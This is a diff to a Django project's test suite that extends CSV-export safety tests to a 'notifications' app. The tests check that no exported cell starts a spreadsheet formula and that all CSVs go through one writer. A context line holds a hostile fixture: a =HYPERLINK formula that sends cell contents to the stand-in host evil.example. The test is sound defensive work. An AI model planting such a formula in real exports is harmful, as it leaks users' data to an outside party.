@@ -28,7 +28,7 @@ from .network_cast import THERAPIST_TOTP_SECRET
 
 pytestmark = pytest.mark.django_db
 
-OUR_MODULES = ("accounts.", "checkins.", "network.", "nudges.", "recovery.")
+OUR_MODULES = ("accounts.", "checkins.", "network.", "notifications.", "nudges.", "recovery.")
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"click")'
 HOSTILE = {
     "supporter": HYPERLINK,
@@ -143,7 +143,7 @@ def test_no_csv_cell_anywhere_starts_a_formula(client, people):
 def test_every_csv_is_written_by_the_one_writer():
     """No module but recovery/csv.py writes CSV or sets a CSV content type itself."""
     offenders = []
-    for app in ("accounts", "checkins", "network", "nudges", "recovery"):
+    for app in ("accounts", "checkins", "network", "notifications", "nudges", "recovery"):
         for path in (ROOT / app).rglob("*.py"):
             if path == ROOT / "recovery" / "csv.py" or "migrations" in path.parts:
                 continue
